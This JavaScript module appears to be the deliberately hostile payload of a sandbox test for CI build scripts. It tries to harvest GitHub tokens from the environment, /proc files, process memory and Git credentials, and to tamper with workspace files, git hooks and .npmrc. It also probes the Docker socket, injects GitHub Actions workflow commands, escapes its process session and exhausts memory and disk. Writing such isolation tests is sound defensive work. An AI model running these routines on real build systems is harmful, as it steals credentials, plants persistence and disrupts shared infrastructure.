// What a build script or a server may try. Each attempt returns what it got, or
// throws. plan.json says where the test looks for that, and names what somebody
// would have to guess.
import { spawn } from 'node:child_process';
import * as fs from 'node:fs';
import { connect } from 'node:net';
import { dirname, join } from 'node:path';
import { fileURLToPath } from 'node:url';

const here = dirname(fileURLToPath(import.meta.url));
export const plan = JSON.parse(fs.readFileSync(join(here, 'plan.json'), 'utf8'));

const token = /gh[ps]_[A-Za-z0-9]{20,}/;

// refused fails an attempt that got nothing.
function refused(why) {
  throw new Error(why);
}

// any is the first that one of several attempts gets.
async function any(list, attempt) {
  let last = 'there is nothing to try';
  for (const item of list) {
    try {
      return await attempt(item);
    } catch (e) {
      last = `${item}: ${e.message}`;
    }
  }
  return refused(last);
}

const processes = () => fs.readdirSync('/proc').filter((name) => /^\d+$/.test(name) && Number(name) !== process.pid);

function search(text) {
  return text.match(token)?.[0] ?? refused('it holds no token');
}

// memory looks through what a process may write in its memory.
function memory(pid) {
  const fd = fs.openSync(`/proc/${pid}/mem`, 'r');
  try {
    for (const line of fs.readFileSync(`/proc/${pid}/maps`, 'utf8').split('\n')) {
      const [, from, to] = /^([0-9a-f]+)-([0-9a-f]+) rw/.exec(line) ?? [];
      if (!from) continue;
      const begin = BigInt(`0x${from}`);
      const size = Number(BigInt(`0x${to}`) - begin);
      if (size > 64 << 20) continue;
      const bytes = Buffer.alloc(size);
      try {
        fs.readSync(fd, bytes, 0, size, begin);
      } catch {
        continue;
      }
      const found = bytes.toString('latin1').match(token);
      if (found) return found[0];
    }
  } finally {
    fs.closeSync(fd);
  }
  return refused('it holds no token');
}

function read(path) {
  const text = fs.readFileSync(path, 'utf8');
  return text === '' ? refused('it is empty') : text;
}

function append(path) {
  fs.appendFileSync(path, 'HOSTILE=hostile\n');
  return path;
}

const attempts = {
  'variables of the runner': () => Object.entries(process.env).find(([name, value]) => /^(INPUT|ACTIONS|GITHUB|RUNNER)_/.test(name) || token.test(value))?.join('=') ?? refused('there are none'),
  'environment of pid 1': () => search(read('/proc/1/environ')),
  'environment of the parent': () => search(read(`/proc/${process.ppid}/environ`)),
  'environment of any process': () => any(processes(), (pid) => search(read(`/proc/${pid}/environ`))),
  'memory of any process': () => any(processes(), memory),
  'open files of pid 1': () => any(fs.readdirSync('/proc/1/fd'), (fd) => fs.readlinkSync(`/proc/1/fd/${fd}`)),
  'root folder of pid 1': () => read(`/proc/1/root${plan.event}`),
  'signal to pid 1': () => String(process.kill(1, 0)),
  'rights of root': () => {
    process.setgroups([0]);
    process.setuid(0);
    return String(process.getuid());
  },
  'event': () => read(plan.event),
  'credentials of Git': () => any([join(here, '.git/config'), join(plan.workspace, '.git/config')], (path) => search(Buffer.from(/basic (\S+)/.exec(read(path))?.[1] ?? '', 'base64').toString())),
  'files of the workspace': () => fs.readdirSync(plan.workspace).join(),
  'change of the workspace': () => append(join(plan.workspace, 'build.mjs')),
  'hook in the workspace': () => append(join(plan.workspace, '.git/hooks/post-checkout')),
  'home of the runner': () => append(join(plan.home, '.npmrc')),
  'temporary folder of the runner': () => append(join(plan.temp, 'hostile')),
  'engine of the containers': () => new Promise((resolve, reject) => {
    const socket = connect(plan.socket);
    socket.on('error', reject).on('data', (data) => {
      socket.destroy();
      resolve(String(data));
    });
    socket.write('GET /containers/json HTTP/1.1\r\n\r\n');
  }),
  ...Object.fromEntries(plan.commands.map((path) => [`file command ${path.split('/').at(-1)}`, () => append(path)])),
};

const spoken = ['::set-env name=PATH::/hostile', '::add-path::/hostile', '::set-output name=grade::hostile', '::add-mask::hostile', '::stop-commands::hostile', '##[set-env name=PATH]/hostile', '::error file=hostile.js,line=1::hostile'];

// attack tries everything once.
export async function attack(phase) {
  for (const line of spoken) {
    console.log(line);
    console.error(line);
  }
  const loot = {};
  for (const [name, attempt] of Object.entries(attempts)) {
    try {
      loot[name] = { got: (await attempt()).slice(0, 200) };
    } catch (e) {
      loot[name] = { refused: e.message.slice(0, 200) };
    }
  }
  // These leave its session, and one its parent too.
  for (const script of ['sleep 100000', 'sleep 100000 & exit']) {
    spawn('/bin/sh', ['-c', script], { detached: true, stdio: 'ignore', env: {} }).unref();
  }
  fs.writeFileSync(`/tmp/hostile-${phase}`, 'hostile');
  fs.writeFileSync(join(plan.drop, `${phase}.json`), JSON.stringify(loot));
}

// swell takes all memory or disk that it gets and keeps it, the disk also by files
// that have no name any more.
export function swell(what) {
  const kept = [];
  for (let i = 0; ; i++) {
    const piece = Buffer.alloc(1 << 20, 'hostile');
    if (what === 'memory') {
      kept.push(piece);
      continue;
    }
    const path = join(process.env.TMPDIR ?? '/tmp', `hostile-${i}`);
    try {
      fs.writeSync(fs.openSync(path, 'w'), piece);
      if (what === 'disk without names') fs.unlinkSync(path);
    } catch {
      // It is full.
    }
  }
}
